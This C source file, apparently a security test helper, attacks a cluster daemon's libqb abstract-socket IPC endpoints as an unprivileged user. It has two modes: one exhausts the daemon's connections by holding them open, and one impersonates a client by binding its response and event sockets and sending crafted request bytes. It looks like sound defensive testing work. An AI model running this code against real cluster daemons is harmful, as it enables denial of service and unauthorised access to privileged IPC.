/* A local user who may not use the cluster, attacking the daemon's IPC endpoints.
 *
 * Started as root (inside the host's network namespace), it raises its fd limit, then
 * becomes uid/gid 65534 (nobody) for good before touching any socket.
 *
 *   ipc_attacker hold COUNT NAME...
 *       opens COUNT connections to each abstract name NAME, sends nothing, prints
 *       "held N" (the connections it made) and keeps them until its stdin closes.
 *   ipc_attacker impersonate BASE FILE WAIT_MS
 *       binds BASE-response and BASE-event (the names a SOCKET-mode client binds after
 *       its handshake), sends FILE's bytes to BASE-request as if it were that client, and
 *       reports for WAIT_MS what comes back: "sent", then "response N" / "event N".
 *
 * Abstract names are libqb's: NUL + name, zero-padded, with the whole sockaddr_un length.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <grp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static void die(const char *what)
{
	perror(what);
	exit(2);
}

static struct sockaddr_un abstract(const char *name)
{
	struct sockaddr_un addr;
	memset(&addr, 0, sizeof(addr));
	addr.sun_family = AF_UNIX;
	if (strlen(name) + 1 >= sizeof(addr.sun_path)) {
		fprintf(stderr, "name too long: %s\n", name);
		exit(2);
	}
	memcpy(addr.sun_path + 1, name, strlen(name));
	return addr;
}

static void become_nobody(void)
{
	struct rlimit lim;
	if (getrlimit(RLIMIT_NOFILE, &lim) != 0)
		die("getrlimit");
	lim.rlim_cur = lim.rlim_max;
	if (setrlimit(RLIMIT_NOFILE, &lim) != 0)
		die("setrlimit");
	if (setgroups(0, NULL) != 0 || setresgid(65534, 65534, 65534) != 0 ||
	    setresuid(65534, 65534, 65534) != 0)
		die("dropping privileges");
	if (getuid() != 65534 || geteuid() != 65534)
		die("still privileged");
}

static int hold(int count, char **names, int n_names)
{
	int held = 0;
	for (int i = 0; i < n_names; i++) {
		struct sockaddr_un addr = abstract(names[i]);
		for (int k = 0; k < count; k++) {
			int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
			if (fd < 0)
				die("socket");
			if (connect(fd, (struct sockaddr *)&addr, sizeof(addr)) == 0)
				held++;
			/* Kept open (or already refused): never closed before the end. */
		}
	}
	printf("held %d\n", held);
	fflush(stdout);
	char buf[64];
	while (read(0, buf, sizeof(buf)) > 0) {
	}
	return 0;
}

static int impersonate(const char *base, const char *file, int wait_ms)
{
	char name[200];
	unsigned char msg[1 << 16];
	FILE *f = fopen(file, "rb");
	if (!f)
		die(file);
	size_t len = fread(msg, 1, sizeof(msg), f);
	fclose(f);

	int sock[2];
	const char *suffix[2] = {"-response", "-event"};
	for (int i = 0; i < 2; i++) {
		snprintf(name, sizeof(name), "%s%s", base, suffix[i]);
		struct sockaddr_un addr = abstract(name);
		sock[i] = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
		if (sock[i] < 0 || bind(sock[i], (struct sockaddr *)&addr, sizeof(addr)) != 0)
			die("bind");
	}
	snprintf(name, sizeof(name), "%s-request", base);
	struct sockaddr_un to = abstract(name);
	if (sendto(sock[0], msg, len, 0, (struct sockaddr *)&to, sizeof(to)) != (ssize_t)len)
		die("sendto");
	printf("sent\n");
	fflush(stdout);
	struct pollfd fds[2] = {{sock[0], POLLIN, 0}, {sock[1], POLLIN, 0}};
	while (poll(fds, 2, wait_ms) > 0) {
		for (int i = 0; i < 2; i++) {
			if (fds[i].revents & POLLIN) {
				ssize_t n = recv(sock[i], msg, sizeof(msg), 0);
				printf("%s %zd\n", i == 0 ? "response" : "event", n);
				fflush(stdout);
			}
		}
	}
	return 0;
}

int main(int argc, char **argv)
{
	if (argc >= 4 && strcmp(argv[1], "hold") == 0) {
		become_nobody();
		return hold(atoi(argv[2]), argv + 3, argc - 3);
	}
	if (argc == 5 && strcmp(argv[1], "impersonate") == 0) {
		become_nobody();
		return impersonate(argv[2], argv[3], atoi(argv[4]));
	}
	fprintf(stderr, "usage: ipc_attacker hold COUNT NAME... | impersonate BASE FILE WAIT_MS\n");
	return 2;
}
